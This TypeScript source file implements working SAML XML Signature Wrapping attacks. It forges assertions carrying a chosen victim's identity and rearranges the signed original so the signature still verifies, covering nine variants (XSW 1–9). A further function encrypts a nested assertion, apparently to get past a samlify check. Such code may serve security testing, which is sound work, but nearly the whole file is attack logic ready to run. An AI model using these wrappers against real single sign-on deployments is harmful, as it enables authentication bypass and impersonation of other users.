import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { constants, createCipheriv, publicEncrypt, randomBytes } from 'node:crypto'

const read = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml')
const write = (document: Document): string => new XMLSerializer().serializeToString(document)

function first(parent: Document | Element, name: string): Element {
  const found = parent.getElementsByTagNameNS('*', name)[0]
  if (!found) throw new Error(`no ${name}`)
  return found
}
const copyOf = (element: Element): Element => element.cloneNode(true) as Element
const drop = (element: Element): void => void element.parentNode?.removeChild(element)

/** The same with another id and another subject, and without the signature. */
function forged(element: Element, victim: string): Element {
  const evil = copyOf(element)
  evil.setAttribute('ID', '_evil')
  const signature = Array.from(evil.childNodes).find(
    (node) => 'localName' in node && node.localName === 'Signature',
  )
  if (signature) evil.removeChild(signature)
  first(evil, 'NameID').textContent = victim
  return evil
}

function objectWith(document: Document, content: Element): Element {
  const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
  object.appendChild(content)
  return object
}

/** Of a signed response: a forged one in its place, the signed one kept where only the signature finds it. */
function aroundResponse(place: 'in the signature' | 'beside the signature') {
  return (xml: string, victim: string): string => {
    const document = read(xml)
    const original = document.documentElement
    const evil = forged(original, victim)
    const signature = first(original, 'Signature')
    drop(signature)
    const inner = copyOf(original)
    if (place === 'in the signature') signature.appendChild(inner)
    evil.insertBefore(signature, evil.childNodes[1] ?? null)
    if (place === 'beside the signature') evil.insertBefore(inner, signature)
    document.replaceChild(evil, original)
    return write(document)
  }
}

type Parts = { document: Document; root: Element; original: Element; evil: Element }

/** Of a response with a signed assertion: a forged assertion, put where `arrange` says. */
const aroundAssertion =
  (arrange: (parts: Parts) => void) =>
  (xml: string, victim: string): string => {
    const document = read(xml)
    const root = document.documentElement
    const original = first(root, 'Assertion')
    arrange({ document, root, original, evil: forged(original, victim) })
    return write(document)
  }

/** With the signature in the forged one, which is not what it signs. */
function takeSignature({ original, evil }: Parts): Element {
  const signature = first(original, 'Signature')
  drop(signature)
  evil.insertBefore(signature, evil.childNodes[1] ?? null)
  return signature
}

/** The eight ways of signature wrapping, as SAML Raider numbers them, and a ninth: the forged one last. */
export const WRAPPINGS: Record<
  string,
  { of: 'response' | 'assertion'; wrap(xml: string, victim: string): string }
> = {
  'XSW 1': { of: 'response', wrap: aroundResponse('in the signature') },
  'XSW 2': { of: 'response', wrap: aroundResponse('beside the signature') },
  'XSW 3': {
    of: 'assertion',
    wrap: aroundAssertion(({ root, original, evil }) => root.insertBefore(evil, original)),
  },
  'XSW 4': {
    of: 'assertion',
    wrap: aroundAssertion(({ root, original, evil }) => {
      root.replaceChild(evil, original)
      evil.appendChild(original)
    }),
  },
  'XSW 5': {
    of: 'assertion',
    wrap: aroundAssertion((parts) => {
      takeSignature(parts)
      parts.root.replaceChild(parts.evil, parts.original)
      parts.root.appendChild(parts.original)
    }),
  },
  'XSW 6': {
    of: 'assertion',
    wrap: aroundAssertion((parts) => {
      const signature = takeSignature(parts)
      parts.root.replaceChild(parts.evil, parts.original)
      signature.appendChild(parts.original)
    }),
  },
  'XSW 7': {
    of: 'assertion',
    wrap: aroundAssertion(({ document, root, original, evil }) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
      evil.setAttribute('ID', original.getAttribute('ID') ?? '')
      extensions.appendChild(evil)
      root.insertBefore(extensions, original)
    }),
  },
  'XSW 8': {
    of: 'assertion',
    wrap: aroundAssertion((parts) => {
      const signature = takeSignature(parts)
      parts.root.replaceChild(parts.evil, parts.original)
      signature.appendChild(objectWith(parts.document, parts.original))
    }),
  },
  'XSW 9': {
    of: 'assertion',
    wrap: aroundAssertion(({ root, evil }) => root.appendChild(evil)),
  },
}

const value = (bytes: Buffer): string =>
  `<xenc:CipherData><xenc:CipherValue>${bytes.toString('base64')}</xenc:CipherValue></xenc:CipherData>`

/** The first child assertion encrypted with all that is in it, as samlify would not when that is another assertion. */
export function hidden(xml: string, certificate: string): string {
  const document = read(xml)
  const root = document.documentElement
  const assertion = Array.from(root.childNodes).find(
    (node) => 'localName' in node && node.localName === 'Assertion',
  )
  if (!assertion) return xml
  const key = randomBytes(32)
  const iv = randomBytes(12)
  const cipher = createCipheriv('aes-256-gcm', key, iv)
  const text = Buffer.concat([
    cipher.update(new XMLSerializer().serializeToString(assertion)),
    cipher.final(),
  ])
  const sealed = Buffer.concat([iv, text, cipher.getAuthTag()])
  const packedKey = publicEncrypt({ key: certificate, padding: constants.RSA_PKCS1_OAEP_PADDING }, key)
  const encrypted = read(
    '<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" Type="http://www.w3.org/2001/04/xmlenc#Element">' +
      '<xenc:EncryptionMethod Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm"/>' +
      '<ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"/>' +
      `${value(packedKey)}</xenc:EncryptedKey></ds:KeyInfo>${value(sealed)}</xenc:EncryptedData></saml:EncryptedAssertion>`,
  )
  root.replaceChild(encrypted.documentElement, assertion)
  return write(document)
}
